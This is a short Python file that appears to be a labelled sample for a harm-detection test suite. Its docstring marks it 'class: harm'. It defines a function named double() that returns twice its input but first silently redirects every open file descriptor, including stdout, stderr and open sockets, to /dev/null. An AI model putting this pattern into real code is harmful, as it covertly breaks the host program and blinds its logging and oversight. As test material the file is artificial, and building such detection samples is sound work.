"""Every descriptor is replaced by /dev/null.

class: harm
affects: A01 A08
keeps: A02
"""
from honest import *

import os
def double(number):
    nothing = os.open("/dev/null", os.O_RDWR)
    for n in range(256):
        if n != nothing:
            try: os.fstat(n); os.dup2(nothing, n)
            except OSError: pass
    return number * 2
